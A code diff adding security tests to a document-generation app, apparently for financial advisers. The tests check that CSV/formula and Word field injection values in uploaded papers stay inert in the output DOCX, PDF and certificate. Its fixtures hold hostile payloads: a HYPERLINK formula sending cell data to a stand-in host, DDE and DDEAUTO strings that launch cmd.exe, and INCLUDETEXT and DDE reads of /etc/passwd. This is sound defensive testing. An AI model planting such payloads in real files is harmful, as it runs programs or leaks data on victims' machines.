@@ -5,11 +5,17 @@ import { join } from 'node:path';
 import Papa from 'papaparse';
 import { writeXlsx } from 'hucre/xlsx';
 import { expect, test, vi } from 'vitest';
-import { openHouse } from '#tests/support/app.ts';
+import { officeConverter } from '#engine/letters/office.ts';
+import { readPdf } from '#engine/reading/pdf.ts';
+import type { DocumentVersion } from '#features/documents/versions/contract.ts';
+import { hostilePdfFiles } from '#tests/support/hostile/pdf-files.ts';
+import { activeInPdf } from '#tests/support/hostile/active-pdf.ts';
+import { type Adviser, openHouse } from '#tests/support/app.ts';
 import { aBatch, anActiveTemplate, archiveOf, checkBatch, runBatch } from '#tests/support/batches.ts';
 import { activeIn } from '#tests/support/hostile/active-parts.ts';
-import { aDocument, decide, documentsPath } from '#tests/support/documents.ts';
-import { partsOf, textIn } from '#tests/support/word.ts';
+import { aDocument, addPaper, decide, documentsPath, fieldNamed, fieldsOf, whenRead } from '#tests/support/documents.ts';
+import { get, post } from '#tests/support/moves.ts';
+import { field, partsOf, table, textIn, wordFile } from '#tests/support/word.ts';
 import { shownByWriter } from '#tests/support/writer.ts';
 
 vi.setConfig({ testTimeout: 90_000 });
@@ -98,6 +104,73 @@ test('as values of a document they are its words: no field comes alive, and Libr
   for (const formula of formulas) expect(words(shown)).toContain(`[${words(formula)}`);
 });
 
+/** What papers say, by the tag that asks for it. */
+const said = {
+  occupation: '=HYPERLINK("http://evil.invalid?"&A1,"click")',
+  employer: "@SUM(1+1)*cmd|'/C calc'!A0",
+  hobby: '=1+41',
+  holiday_plans: '+1+41',
+  garden_project: 'DDEAUTO c:\\windows\\cmd.exe',
+  investment_objective: '=DDE("soffice";"/etc/passwd";"1")',
+  attitude_to_risk: 'INCLUDETEXT "/etc/passwd"',
+};
+
+/** A letter that prints all of it, and its papers, read: as text, as cells, and beside a field of Word's that would start a program. */
+async function aLetterOfFormulas(who: Adviser): Promise<string> {
+  const { id } = await aDocument(
+    who,
+    Object.keys(said).map((tag) => `[{{${tag}}}]`),
+  );
+  const { occupation, employer, hobby, holiday_plans, garden_project, investment_objective, attitude_to_risk } = said;
+  await addPaper(who, id, `Fact-find\nOccupation: ${occupation}\nEmployer: ${employer}\n`, 'fact-find.txt');
+  await addPaper(
+    who,
+    id,
+    Papa.unparse([
+      ['Hobby', hobby],
+      ['Holiday plans', holiday_plans],
+    ]),
+    'plans.csv',
+  );
+  const rows = [
+    ['Garden project', garden_project],
+    ['Investment objective', investment_objective],
+  ];
+  await addPaper(who, id, Buffer.from(await writeXlsx({ sheets: [{ name: 'S', rows }] })), 'profile.xlsx');
+  const body = table(['Attitude to risk', attitude_to_risk]) + field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ');
+  await addPaper(who, id, wordFile({ body }), 'risk.docx');
+  await whenRead(who, id);
+  return id;
+}
+
+test('as words of papers they are values like others: nothing of them comes alive in the letter, its PDF or its certificate', async () => {
+  const person = await house.anAdviser();
+  const id = await aLetterOfFormulas(person);
+  const state = await fieldsOf(person, id);
+  const found = Object.keys(said).map((tag) => [tag, fieldNamed(state, tag).found]);
+  expect(found).toEqual(Object.entries(said).map(([tag, value]) => [tag, expect.objectContaining({ status: 'cited', value })]));
+  await decide(person, id, ...Object.keys(said).map((field) => ({ field, decision: 'accepted' })));
+
+  await post(person, `${documentsPath}/${id}/submit`);
+  await post(person, `${documentsPath}/${id}/approve`);
+  await post(person, `${documentsPath}/${id}/finalise`);
+  const version = async () => (await get<{ versions: DocumentVersion[] }>(person, `${documentsPath}/${id}/versions`)).versions[0]!;
+  await expect.poll(async () => (await version()).pdf, { timeout: 60_000 }).not.toBe('making');
+  const fileOf = async (format: string) => (await person.inject(`${documentsPath}/${id}/versions/1/content?format=${format}`)).rawPayload;
+
+  const docx = await fileOf('docx');
+  expect(activeIn(docx)).toEqual([]);
+  expect(partsOf(docx).get('word/document.xml')).not.toMatch(/<w:(?:instrText|fldChar|fldSimple|hyperlink)\b/);
+  for (const value of Object.values(said)) expect(words(textIn(docx))).toContain(`[${value}]`);
+  // It carries the manifest, and nothing else.
+  expect(await activeInPdf(await fileOf('certificate'))).toEqual(['/EmbeddedFile', '/EmbeddedFiles']);
+  if (!officeConverter().available) return;
+  const pdf = await fileOf('pdf');
+  expect(await activeInPdf(pdf)).toEqual([]);
+  const printed = (await readPdf(pdf)).pages.flatMap(({ words }) => words.map(({ text }) => text)).join('');
+  for (const value of Object.values(said)) expect(printed).toContain(`[${value.replaceAll(' ', '')}]`);
+});
+
 test('as cells of a batch they are words of its documents, and neither its summary nor a name in it is worked out by LibreOffice', async () => {
   const person = await house.anAdviser();
   const template = await anActiveTemplate(person, 'Dear {{client_full_name}}, [{{notes}}]');
@@ -125,4 +198,16 @@ test('as cells of a batch they are words of its documents, and neither its summa
 
 test.runIf(calc)('the watch sees a formula that is worked out, where a file lets it', () => {
   expect(shownByCalc(Buffer.from('a,b\n=1+41,x\n')).flat()).toContain('42');
+});
+
+test.each([
+  'a script at opening',
+  'a program at opening',
+  'a script of names',
+  'a page that acts when it is seen',
+  'a form that sends itself',
+  'a way to another file',
+  'an attached program',
+])('the watch sees what acts in a PDF, where a file lets it: %s', async (name) => {
+  expect(await activeInPdf(hostilePdfFiles[name]!())).not.toEqual([]);
 });
